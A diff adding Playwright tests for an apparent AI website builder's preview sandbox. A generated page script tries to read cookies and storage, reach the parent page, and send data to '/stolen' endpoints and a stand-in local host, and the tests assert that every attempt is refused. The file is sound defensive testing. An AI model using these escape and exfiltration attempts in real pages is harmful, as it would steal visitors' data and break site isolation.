@@ -1,0 +1,173 @@
+import type { Page } from 'playwright/test';
+import { AI_TEST_KEY, type FakeAiService, startAiService } from '../server/testing/ai-service.ts';
+import { ready } from './support/ready.ts';
+import { test as base, expect } from './support/test.ts';
+
+const PORT = 42_118;
+const ELSEWHERE = `http://127.0.0.1:${PORT}`;
+// The page tries what it must not, and the browser prints each refusal.
+const test = base.extend({ guard: async ({ baseURL: _ }, use) => use(undefined) });
+test.use({ settings: { AI_BASE_URL: `${ELSEWHERE}/v1`, AI_API_KEY: AI_TEST_KEY } });
+// One after the other: the service has one port.
+test.describe.configure({ mode: 'default' });
+
+/** Tries, one after the other, all that a page could want of the site and of the visitor, and writes down what became of it. */
+const ATTEMPTS = `const kept = (value) => { if (value === null || value === undefined) throw new Error('nothing'); };
+const event = (make, good, bad) => new Promise((resolve, reject) => {
+  const thing = make();
+  thing['on' + good] = resolve;
+  thing['on' + bad] = reject;
+});
+const element = (name, values) => event(() => {
+  const made = Object.assign(document.createElement(name), values);
+  document.body.append(made);
+  return made;
+}, 'load', 'error');
+const attempts = {
+  localStorage: () => localStorage.setItem('a', 'b'),
+  sessionStorage: () => sessionStorage.setItem('a', 'b'),
+  indexedDB: () => event(() => indexedDB.open('plinth-ai-builder'), 'success', 'error'),
+  caches: () => caches.open('a'),
+  'cookies, read': () => document.cookie,
+  'cookies, written': () => { document.cookie = 'a=b'; },
+  'service worker': () => navigator.serviceWorker.register('/stolen.js'),
+  'a popup': () => kept(window.open('/stolen?popup')),
+  fetch: () => fetch('/stolen?fetch'),
+  'fetch elsewhere': () => fetch('${ELSEWHERE}/stolen', { mode: 'no-cors' }),
+  XMLHttpRequest: () => event(() => { const x = new XMLHttpRequest(); x.open('GET', '/stolen?xhr'); x.send(); return x; }, 'load', 'error'),
+  WebSocket: () => event(() => new WebSocket('ws://127.0.0.1:${PORT}/stolen'), 'open', 'error'),
+  EventSource: () => event(() => new EventSource('/stolen?events'), 'open', 'error'),
+  'a picture': () => element('img', { src: '/favicon.svg?stolen' }),
+  'a picture elsewhere': () => element('img', { src: '${ELSEWHERE}/stolen.png' }),
+  'a script': () => element('script', { src: '/stolen.js' }),
+  'a style sheet': () => element('link', { rel: 'stylesheet', href: '/stolen.css' }),
+  eval: () => new Function('return 1')(),
+};
+if (parent !== window) Object.assign(attempts, {
+  'the page around': () => parent.document.title,
+  'its storage': () => parent.localStorage.length,
+  'its address': () => parent.location.href,
+  'the page on top': () => top.document.title,
+  'leading the page on top away': () => { top.location.href = '/blog'; },
+});
+else attempts.opener = () => kept(window.opener);
+(async () => {
+  const list = document.getElementById('list');
+  for (const [name, attempt] of Object.entries(attempts)) {
+    const wait = new Promise((resolve, reject) => setTimeout(reject, 3000));
+    const outcome = await Promise.race([(async () => attempt())(), wait]).then(() => 'reached', () => 'refused');
+    list.append(Object.assign(document.createElement('li'), { textContent: name + ': ' + outcome }));
+  }
+  document.getElementById('end').textContent = 'All tried';
+  // With the network on a form may lead the preview away, as on any website.
+  if (location.pathname.endsWith('/on')) return;
+  // These say nothing about how they went: the journey looks at what arrives.
+  navigator.sendBeacon('/stolen?beacon');
+  const link = Object.assign(document.createElement('a'), { href: '/stolen?top', target: '_top' });
+  document.body.append(link);
+  // In a tab of its own, the page on top is itself.
+  if (parent !== window) link.click();
+  // A page whose own navigation was refused can not be read by the test any more, so that waits for a press.
+  else await new Promise((go) => document.addEventListener('click', go, { once: true }));
+  const form = Object.assign(document.createElement('form'), { action: '/stolen?form', method: 'post' });
+  document.body.append(form);
+  form.submit();
+})();`;
+const reply = (script: string) => `\`\`\`html
+<!doctype html>
+<html lang="en"><head><title>Tries</title></head><body><h1>Tries</h1><ul id="list"></ul><p id="end"></p></body></html>
+\`\`\`
+\`\`\`css
+h1 { color: navy; }
+\`\`\`
+\`\`\`js
+${script}
+\`\`\`
+`;
+const FRAME = 'iframe[title="Preview of your page"]';
+
+let service: FakeAiService;
+test.beforeAll(async () => {
+  service = await startAiService(PORT);
+});
+test.afterAll(() => service.close());
+
+test('a page that tries everything reaches nothing, in the preview and in a tab of its own', async ({
+  page,
+  login,
+}) => {
+  // So that there is something to steal.
+  await login(page);
+  const arrived: string[] = [];
+  page.context().on('response', (response) => {
+    if (response.url().includes('stolen')) arrived.push(response.url());
+  });
+  await generate(page, ATTEMPTS);
+  const frame = page.frameLocator(FRAME);
+  await expect(frame.getByText('All tried')).toBeVisible();
+  const inFrame = await frame.getByRole('listitem').allTextContents();
+  expect(inFrame).toHaveLength(23);
+  expect(inFrame.filter((line) => !line.endsWith(': refused'))).toEqual([]);
+  expect(new URL(page.url()).pathname).toBe('/ai-temp-build');
+
+  const [tab] = await Promise.all([
+    page.waitForEvent('popup'),
+    page.getByRole('button', { name: 'Run', exact: true }).click(),
+  ]);
+  await expect(tab.getByText('All tried')).toBeVisible();
+  const inTab = await tab.getByRole('listitem').allTextContents();
+  expect(inTab).toHaveLength(19);
+  expect(inTab.filter((line) => !line.endsWith(': refused'))).toEqual([]);
+  await Promise.all([
+    tab.waitForEvent('console', (message) => /form/i.test(message.text())),
+    tab.mouse.click(5, 5),
+  ]);
+  expect(arrived).toEqual([]);
+});
+
+test('the network is reached when it is switched on, and still nothing of the site', async ({
+  page,
+  login,
+}) => {
+  await login(page);
+  await generate(page, ATTEMPTS);
+  const frame = page.frameLocator(FRAME);
+  await expect(frame.getByText('All tried')).toBeVisible();
+  await page.getByRole('switch', { name: 'Network' }).click();
+  await expect(frame.getByText('fetch elsewhere: reached')).toBeVisible();
+  await expect(frame.getByText('All tried')).toBeVisible();
+  const lines = await frame.getByRole('listitem').allTextContents();
+  const still = [
+    'localStorage',
+    'indexedDB',
+    'caches',
+    'cookies, read',
+    'cookies, written',
+    'service worker',
+    'a popup',
+  ];
+  const around = ['the page around', 'its storage', 'its address', 'leading the page on top away'];
+  for (const name of [...still, ...around]) expect(lines).toContain(`${name}: refused`);
+  expect(new URL(page.url()).pathname).toBe('/ai-temp-build');
+});
+
+test('a page that leads itself to another host does not get there', async ({ page }) => {
+  const arrived: string[] = [];
+  page.context().on('response', (response) => {
+    if (response.url().startsWith(`${ELSEWHERE}/stolen`)) arrived.push(response.url());
+  });
+  await generate(page, `location.href = '${ELSEWHERE}/stolen?' + document.title;`);
+  // The browser shows its own page about the refusal in place of the page.
+  await expect(page.frameLocator(FRAME).getByRole('heading', { name: 'Tries' })).toBeHidden();
+  expect(arrived).toEqual([]);
+});
+
+async function generate(page: Page, script: string): Promise<void> {
+  service.answer({ reply: reply(script) });
+  await page.goto('/ai-temp-build');
+  const prompt = page.getByLabel('Describe your website');
+  await ready(prompt);
+  await prompt.fill('A page that tries everything');
+  await prompt.press('Enter');
+  await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled();
+}
